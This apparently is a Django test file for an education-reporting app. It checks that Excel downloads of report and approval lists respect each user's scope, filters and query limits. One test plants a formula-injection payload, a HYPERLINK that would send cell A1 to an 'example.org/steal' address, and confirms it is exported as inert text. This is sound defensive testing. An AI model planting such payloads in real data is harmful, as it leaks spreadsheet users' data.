"""我的填报 and the approval queue download as workbooks holding the rows the page lists:
Alice gets her school's reports, Bob his district's, Charlie only his own; what Bob
typed as a reason stays text; a table the page does not have is not found."""

from __future__ import annotations

import datetime
import io
import re

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation
from openpyxl.worksheet.worksheet import Worksheet

from eduplan.reporting.models import ExpectedReport, Status
from eduplan.reporting.services import (
    expected_reports_open,
    submission_return,
    submission_save,
    submission_submit,
)
from eduplan.reporting.tests.conftest import GOOD

MINE = "/reports/"
APPROVALS = "/reports/approvals/"
HOSTILE = '=HYPERLINK("http://example.org/steal?"&A1,"点击查看")'
SPRING, AUTUMN = "2016年春季学期", "2016年秋季学期"


def _zh(text: object) -> str:
    """A msgid or label as the Chinese page shows it (whatever the catalogue holds)."""
    with translation.override("zh-hans"):
        return translation.gettext(text) if isinstance(text, str) else str(text)


def _rows(response) -> list[tuple]:
    """The workbook's rows under its title and header."""
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert isinstance(sheet, Worksheet)
    return list(sheet.iter_rows(min_row=3, values_only=True))


def _submitted(city, form, unit=None, period="2016T1"):
    user = city.users["alice" if unit is None else "charlie"]
    sub = submission_save(
        user=user,
        form=form,
        org_unit=unit or city.jinshui_one,
        period_code=period,
        values=GOOD,
    )
    return submission_submit(user=user, submission=sub, revision=sub.revision)


def _listed(client, url, **params) -> list[tuple[str, str]]:
    """(unit code, status) of each row the page lists, in its order."""
    body = client.get(url, params).content.decode()
    return re.findall(
        r'class="report-row" data-form="[\w-]+" data-unit="([\w-]+)" '
        r'data-status="(\w+)"',
        body,
    )


def test_bob_downloads_the_reports_his_page_lists_with_dates_and_chinese_statuses(
    client, city, class_form
):
    sub = _submitted(city, class_form)
    submission_return(
        user=city.users["bob"], submission=sub, revision=sub.revision, reason="大班额班数有误"
    )
    client.force_login(city.users["bob"])
    due_on = ExpectedReport.objects.get(org_unit=city.jinshui_one).due_on
    due = datetime.datetime.combine(due_on, datetime.time())  # a date cell reads back so
    late = _zh("Yes")  # 2016's reports are long overdue
    past_due = _zh("Past the due date")  # but open for entry: nothing closed the period
    rows = _rows(client.get(MINE, {"export": "reports"}))
    assert rows == [
        (
            SPRING,
            "班额情况",
            None,
            "金水一小",
            due,
            _zh(Status.RETURNED.label),
            late,
            "大班额班数有误",
            past_due,
        ),
        (SPRING, "班额情况", None, "金水二小", due, _zh("Not started"), late, None, past_due),
    ]
    names = {"410105-P1": "金水一小", "410105-P2": "金水二小"}
    assert [names[code] for code, _status in _listed(client, MINE)] == [r[3] for r in rows]


def test_the_download_keeps_the_period_filter_of_the_page(client, city, class_form):
    expected_reports_open(form=class_form, period_code="2016T2")
    client.force_login(city.users["alice"])
    assert [r[0] for r in _rows(client.get(MINE, {"export": "reports"}))] == [SPRING, AUTUMN]
    response = client.get(MINE, {"period": "2016T2", "export": "reports"})
    assert [r[0] for r in _rows(response)] == [AUTUMN]
    assert len(_listed(client, MINE, period="2016T2")) == 1
    page = client.get(MINE, {"period": "2016T2", "page": "1"}).content.decode()
    assert 'href="?period=2016T2&amp;export=reports" download' in page  # the page's filter
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet["A1"].value == f"我的填报 · {AUTUMN}"


@pytest.mark.parametrize(
    ("who", "units"),
    [
        ("alice", ["金水一小"]),
        ("bob", ["金水一小", "金水二小"]),
        ("charlie", ["二七一小"]),
        ("dora", ["二七一小"]),
        ("dan", []),  # a department reports for itself, not for the schools
    ],
)
def test_each_user_downloads_only_the_reports_of_their_own_school_or_district(
    client, city, class_form, who, units
):
    client.force_login(city.users[who])
    assert [r[3] for r in _rows(client.get(MINE, {"export": "reports"}))] == units


def test_a_reason_typed_as_a_formula_comes_out_as_text(client, city, class_form):
    sub = _submitted(city, class_form)
    submission_return(user=city.users["bob"], submission=sub, revision=sub.revision, reason=HOSTILE)
    client.force_login(city.users["alice"])
    response = client.get(MINE, {"export": "reports"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
    assert cells, "the reason is in the download"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_bob_downloads_his_approval_queue_as_the_page_lists_it(client, city, class_form):
    sub = _submitted(city, class_form)
    _submitted(city, class_form, unit=city.erqi_one)  # Dora's to approve, not Bob's
    client.force_login(city.users["bob"])
    rows = _rows(client.get(APPROVALS, {"export": "approvals"}))
    submitted = timezone.localtime(sub.submitted_at).replace(tzinfo=None, microsecond=0)
    assert [r[:4] for r in rows] == [("班额情况", None, SPRING, "金水一小")]
    assert rows[0][4].replace(microsecond=0) == submitted  # local time, as the page shows
    page = client.get(APPROVALS).content.decode()
    assert re.findall(r'class="approval-row" data-unit="([\w-]+)"', page) == ["410105-P1"]

    client.force_login(city.users["dora"])
    assert [r[3] for r in _rows(client.get(APPROVALS, {"export": "approvals"}))] == ["二七一小"]
    client.force_login(city.users["alice"])
    assert _rows(client.get(APPROVALS, {"export": "approvals"})) == []


@pytest.mark.parametrize(("url", "table"), [(MINE, "reports"), (APPROVALS, "approvals")])
def test_nobody_without_a_scope_is_refused_the_download(client, city, class_form, url, table):
    client.force_login(city.users["nobody"])
    assert client.get(url, {"export": table}).status_code == 403


@pytest.mark.parametrize("url", [MINE, APPROVALS])
def test_a_table_the_page_does_not_have_is_not_found(client, city, class_form, url):
    client.force_login(city.users["bob"])
    assert client.get(url, {"export": "secrets"}).status_code == 404


@pytest.mark.parametrize(
    ("who", "url", "table"), [("alice", MINE, "reports"), ("bob", APPROVALS, "approvals")]
)
def test_a_download_of_ten_reports_makes_no_more_queries_than_of_one(
    client, city, class_form, who, url, table, django_assert_max_num_queries
):
    periods = iter(f"{year}T{term}" for year in range(2016, 2022) for term in (1, 2))

    def add(n):
        for _ in range(n):
            code = next(periods)
            expected_reports_open(form=class_form, period_code=code)
            _submitted(city, class_form, period=code)

    client.force_login(city.users[who])
    add(1)
    with CaptureQueriesContext(connection) as one:
        assert len(_rows(client.get(url, {"export": table}))) >= 1
    add(9)
    with django_assert_max_num_queries(len(one.captured_queries)):
        rows = _rows(client.get(url, {"export": table}))
    assert len([r for r in rows if r[3] == "金水一小"]) == 10
